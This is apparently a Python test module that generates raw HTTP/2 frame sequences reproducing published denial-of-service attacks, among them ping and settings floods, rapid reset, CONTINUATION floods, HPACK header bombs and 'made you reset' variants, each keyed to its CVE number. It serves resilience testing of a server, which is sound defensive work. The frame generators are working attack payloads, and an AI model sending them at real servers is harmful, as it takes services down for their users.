"""The published denials of service of HTTP/2 since 2019: what an attacker sends, a piece at a time.

Each is named after its number; those that are one attack on many implementations after the first of them.
"""

from __future__ import annotations

import itertools
import struct
from collections.abc import Callable, Iterator, Sequence
from typing import NamedTuple

from tests.attacks.abuses import PING_PATH, STREAM_PATH, WATCH_PATH
from tests.attacks.raw_http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PADDED,
    PING,
    PRIORITY,
    PRIORITY_UPDATE,
    SETTINGS,
    Header,
    call_headers,
    frame,
    header_block,
    message,
    reset,
    settings,
    window_update,
)

Attack = Callable[[Sequence[Header]], Iterator[bytes]]
"""Given the headers of its credentials; none for a stranger's. Each piece is some dozens of frames."""

_BATCH = 50
_MOST = 60_000
"""Frames, or calls, after which an attack has failed."""
_STREAMS = 2**20


class Published(NamedTuple):
    """A published attack.

    Attributes:
        ends: whether the attacker's connection must end; otherwise what it costs is bounded.
        inside: whether a caller whose token is accepted can do it differently.
        alone: whether the attacker reads nothing of what comes back.
        settings: with which he begins.
    """

    number: str
    name: str
    pieces: Attack
    ends: bool = True
    inside: bool = False
    alone: bool = False
    settings: tuple[tuple[int, int], ...] = ()


def _repeated(piece: bytes, count: int = _MOST) -> Attack:
    return lambda credentials: itertools.repeat(piece * _BATCH, count // _BATCH)


def _on_each(make: Callable[[Sequence[Header], int], bytes], count: int = _MOST) -> Attack:
    """On a new stream each, of which ``make`` is given the number."""

    def pieces(credentials: Sequence[Header]) -> Iterator[bytes]:
        for first in range(1, 2 * count, 2 * _BATCH):
            yield b"".join(make(credentials, stream) for stream in range(first, first + 2 * _BATCH, 2))

    return pieces


def _call(
    credentials: Sequence[Header],
    stream: int,
    *extra: Header,
    path: str = STREAM_PATH,
    flags: int = END_HEADERS,
) -> bytes:
    return frame(HEADERS, flags, stream, header_block(call_headers(path, *credentials, *extra)))


def _ping(credentials: Sequence[Header], stream: int) -> bytes:
    return _call(credentials, stream, path=PING_PATH) + frame(DATA, END_STREAM, stream, message())


def _watch(stream: int) -> bytes:
    """A request that has come as a whole, and is in progress until its caller goes."""
    return _call((), stream, path=WATCH_PATH) + frame(DATA, END_STREAM, stream, message())


def _after_first(first: Callable[[Sequence[Header]], bytes], piece: bytes) -> Attack:
    def pieces(credentials: Sequence[Header]) -> Iterator[bytes]:
        yield first(credentials)
        yield from itertools.repeat(piece * _BATCH, _MOST // _BATCH)

    return pieces


def _dribble(credentials: Sequence[Header]) -> Iterator[bytes]:
    """An answer that is asked for byte by byte."""
    content = b"\x1a\xf0\xea\x01" + bytes(30_064)  # the field `data` of a ping
    yield _call(credentials, 1, path=PING_PATH)
    yield frame(DATA, 0, 1, message(content)[:16_000]) + frame(DATA, END_STREAM, 1, message(content)[16_000:])
    for _ in range(30_000 // 10):
        yield window_update(1, 1) * 10


def _buffering(credentials: Sequence[Header]) -> Iterator[bytes]:
    """Answers for which the window is wide open, and that are not read from the socket."""
    yield window_update(0, 2**30)
    content = b"\x1a\xf0\xea\x01" + bytes(30_064)
    whole = message(content)
    for stream in range(1, 4000, 2):
        yield (
            _call(credentials, stream, path=PING_PATH)
            + frame(DATA, 0, stream, whole[:16_000])
            + frame(DATA, END_STREAM, stream, whole[16_000:])
        )


def _large_fields(credentials: Sequence[Header]) -> Iterator[bytes]:
    """Strings that are announced as longer than they can be."""
    begin = header_block(call_headers(PING_PATH, *credentials))
    yield frame(HEADERS, 0, 1, begin + b"\x10\x01a\x7f\x81\xff\xff\xff\x0f" + bytes(9000))
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, bytes(16_000)), 1000)


def _long_integers(credentials: Sequence[Header]) -> Iterator[bytes]:
    """Numbers with any number of noughts before them."""
    yield frame(HEADERS, 0, 1, b"\xff" + b"\x80" * 9000)
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, b"\x80" * 16_000), 1000)


def _field_by_field(credentials: Sequence[Header]) -> Iterator[bytes]:
    """A header in each frame, none of which ends the list."""
    yield _call(credentials, 1, flags=0)
    for number in range(_MOST):
        yield frame(CONTINUATION, 0, 1, header_block([("a", str(number))]))


def _huffman(credentials: Sequence[Header]) -> Iterator[bytes]:
    """Much to decode, in headers that never end."""
    yield _call(credentials, 1, flags=0)
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, b"\x10\x01a\xff\x80\x7c" + b"\x18" * 15_999), 1000)


def _after_reset(credentials: Sequence[Header]) -> Iterator[bytes]:
    """Headers that never end, on a stream that was reset for them."""
    yield _call(credentials, 1, ("Bad", "name"), flags=0)
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, header_block([("x", "a" * 15_000)])), 1000)


def _bomb(value: bytes, name: bytes = b"a") -> Attack:
    """A header that is said once, and then thousands of times by one byte each."""

    def pieces(credentials: Sequence[Header]) -> Iterator[bytes]:
        literal = b"\x40" + bytes((len(name),)) + name + _string(value)
        yield frame(
            HEADERS,
            END_HEADERS | END_STREAM,
            1,
            header_block(call_headers(PING_PATH, *credentials)) + literal,
        )
        for stream in range(3, 3000, 2):
            begin = header_block(call_headers(PING_PATH, *credentials))
            yield frame(HEADERS, END_HEADERS, stream, begin + b"\xbe" * 15_000)

    return pieces


def _small_bomb(credentials: Sequence[Header]) -> Iterator[bytes]:
    """As many as are permitted, on as many streams as are permitted, none of which ends."""
    literal = b"\x40\x01a" + _string(b"x" * 20)
    begin = header_block(call_headers(STREAM_PATH, *credentials))
    yield frame(HEADERS, END_HEADERS, 1, begin + literal)
    for stream in range(3, 4000, 2):
        yield frame(HEADERS, END_HEADERS, stream, begin + b"\xbe" * 240)


def _string(octets: bytes) -> bytes:
    block = header_block([("", octets)])
    return block[2:]


def _distinct_names(credentials: Sequence[Header]) -> Iterator[bytes]:
    """Headers of which no two have the same name."""
    for stream in range(1, 2000, 2):
        extra = [(f"x-{stream}-{number}", "") for number in range(100)]
        yield _call(credentials, stream, *extra, path=PING_PATH) + frame(DATA, END_STREAM, stream, message())


def _gone(credentials: Sequence[Header]) -> Iterator[bytes]:
    """Calls that are given up together with their connection."""
    for stream in range(1, 100, 2):
        yield _call(credentials, stream) + frame(DATA, 0, stream, b"\0\0")
    yield b"".join(reset(stream) for stream in range(1, 50, 2)) + frame(GOAWAY, 0, 0, bytes(8))
    yield b"".join(reset(stream) for stream in range(51, 100, 2))


def _extensions_after_an_error(credentials: Sequence[Header]) -> Iterator[bytes]:
    """Frames of extensions, each malformed, behind what has ended the connection."""
    malformed = [frame(kind, 0, 0, bytes(size)) for kind in (0xA, 0xC, PRIORITY_UPDATE) for size in (0, 1, 3)]
    yield frame(DATA, 0, 0, b"x") + b"".join(malformed)
    yield from malformed


def _no_headers_taken(credentials: Sequence[Header]) -> Iterator[bytes]:
    """Calls whose answers have more headers than the caller takes."""
    for first in range(1, 4000, 100):
        yield b"".join(_ping(credentials, stream) for stream in range(first, first + 100, 2))


def _spoiled(make: Callable[[Sequence[Header], int], bytes]) -> Attack:
    """Calls that begin as they should, and then make the server reset them."""
    return _on_each(make)


_PADDING = frame(DATA, PADDED, 1, b"\1\0")
_CVE_2025_8671 = "2025-8671"

PUBLISHED = [
    Published("2019-9511", "data dribble", _dribble, inside=True, settings=((4, 1),)),
    Published("2019-9512", "ping flood", _repeated(frame(PING, 0, 0, bytes(8)))),
    Published("2019-9512", "ping flood, unread", _repeated(frame(PING, 0, 0, bytes(8))), alone=True),
    Published("2019-9512", "flood of answers to pings", _repeated(frame(PING, 1, 0, bytes(8)))),
    Published("2019-9513", "resource loop", _repeated(frame(PRIORITY, 0, 3, struct.pack(">IB", 1, 9)))),
    Published(
        "2019-9513",
        "priority updates",
        _repeated(frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", 3) + b"u=1")),
    ),
    Published("2019-9514", "reset flood", _on_each(lambda _, stream: _call((), stream, ("Bad", "name")))),
    Published(
        "2019-9514", "reset flood by values", _on_each(lambda _, stream: _call((), stream, ("a", "\0")))
    ),
    Published("2019-9515", "settings flood", _repeated(settings((4, 65535)))),
    Published("2019-9515", "settings flood, unread", _repeated(settings((4, 65535))), alone=True),
    Published("2019-9515", "empty settings", _repeated(frame(SETTINGS, 0, 0))),
    Published(
        "2019-9516", "headers without names", _on_each(lambda _, stream: _call((), stream, *[("", "")] * 99))
    ),
    Published("2019-9517", "internal data buffering", _buffering, ends=False, inside=True, alone=True),
    Published("2019-9518", "empty data", _after_first(lambda c: _call(c, 1), frame(DATA, 0, 1)), inside=True),
    Published("2019-9518", "data of padding", _after_first(lambda c: _call(c, 1), _PADDING), inside=True),
    Published("2019-9518", "empty headers", _on_each(lambda _, stream: frame(HEADERS, END_HEADERS, stream))),
    Published("2019-9518", "empty frames of no kind", _repeated(frame(0x77, 0, 0))),
    Published("2020-11080", "large settings", _repeated(settings(*[(0x99, 1)] * 2000), 50)),
    Published("2022-41717", "names that are remembered", _distinct_names, ends=False, inside=True),
    Published(
        "2023-26964", "resets, unread", _on_each(lambda c, s: _ping(c, s) + reset(s)), inside=True, alone=True
    ),
    Published("2023-33953", "a string of gigabytes", _large_fields),
    Published("2023-33953", "integers of any length", _long_integers),
    Published("2023-33953", "a header in each frame", _field_by_field),
    Published("2023-35945", "resets and a goodbye", _gone, ends=False, inside=True),
    Published("2023-44487", "rapid reset", _on_each(lambda c, s: _ping(c, s) + reset(s)), inside=True),
    Published("2023-45288", "continuations to decode", _huffman),
    Published(
        "2024-27316",
        "continuations",
        _after_first(lambda c: _call(c, 1, flags=0), frame(CONTINUATION, 0, 1, b"\x10\x01a\x01b")),
    ),
    Published("2024-27919", "continuations after a reset", _after_reset),
    Published(
        "2024-28182",
        "empty continuations",
        _after_first(lambda c: _call(c, 1, flags=0), frame(CONTINUATION, 0, 1)),
    ),
    Published(
        "2024-30255",
        "continuations of a stream that has ended",
        _after_first(
            lambda c: _call(c, 1) + reset(1) + frame(HEADERS, 0, 1, b"\x10\x01a\x01b"),
            frame(CONTINUATION, 0, 1),
        ),
    ),
    Published(
        _CVE_2025_8671,
        "made you reset by a window of nothing more",
        _spoiled(lambda c, s: _call(c, s) + window_update(s, 0)),
        inside=True,
    ),
    Published(
        _CVE_2025_8671,
        "made you reset by a window that is too wide",
        _spoiled(lambda c, s: _call(c, s) + window_update(s, 2**31 - 1)),
        inside=True,
    ),
    Published(
        _CVE_2025_8671,
        "made you reset by a priority",
        _spoiled(lambda c, s: _call(c, s) + frame(PRIORITY, 0, s, bytes(4))),
        inside=True,
    ),
    Published(
        _CVE_2025_8671,
        "made you reset by a priority that depends on itself",
        _spoiled(lambda c, s: _call(c, s) + frame(PRIORITY, 0, s, struct.pack(">IB", s, 9)) + reset(s)),
        inside=True,
    ),
    Published(
        _CVE_2025_8671,
        "made you reset by data after the end",
        _spoiled(lambda c, s: _watch(s) + frame(DATA, 0, s, b"x")),
    ),
    Published(
        _CVE_2025_8671,
        "made you reset by headers after the end",
        _spoiled(lambda c, s: _watch(s) + frame(HEADERS, END_HEADERS, s, header_block([("a", "b")]))),
    ),
    Published(
        _CVE_2025_8671,
        "made you reset by too much data",
        _spoiled(lambda c, s: _call(c, s, ("content-length", "1")) + frame(DATA, 0, s, b"xyz")),
        inside=True,
    ),
    Published(
        _CVE_2025_8671,
        "made you reset by a pseudo-header behind the request",
        _spoiled(lambda c, s: _call(c, s) + _trailer(s, ":path", "/")),
        inside=True,
    ),
    Published(
        _CVE_2025_8671,
        "made you reset by a value behind the request",
        _spoiled(lambda c, s: _call(c, s) + _trailer(s, "a", "\0")),
        inside=True,
    ),
    Published(
        _CVE_2025_8671,
        "made you reset by headers that end nothing",
        _spoiled(lambda c, s: _call(c, s) + frame(HEADERS, END_HEADERS, s, header_block([("a", "b")]))),
        inside=True,
    ),
    Published("2026-27135", "extensions after an error", _extensions_after_an_error),
    Published(
        "2026-33871",
        "empty continuations of many streams",
        _on_each(lambda c, s: _call(c, s, flags=0) + frame(CONTINUATION, 0, s) * 20),
    ),
    Published("2026-47244", "streams without a limit", _on_each(lambda c, s: _call(c, s)), inside=True),
    Published("2026-49975", "a bomb of large headers", _bomb(b"x" * 3900)),
    Published("2026-49975", "a bomb of small headers", _bomb(b"")),
    Published("2026-49975", "a bomb of cookies", _bomb(b"", b"cookie")),
    Published(
        "2026-49975",
        "many small bombs that are held",
        _small_bomb,
        ends=False,
        inside=True,
        settings=((4, 0),),
    ),
    Published(
        "2026-50560", "no headers taken", _no_headers_taken, ends=False, inside=True, settings=((6, 1),)
    ),
]


def _trailer(stream: int, name: str, value: str) -> bytes:
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, header_block([(name, value)]))
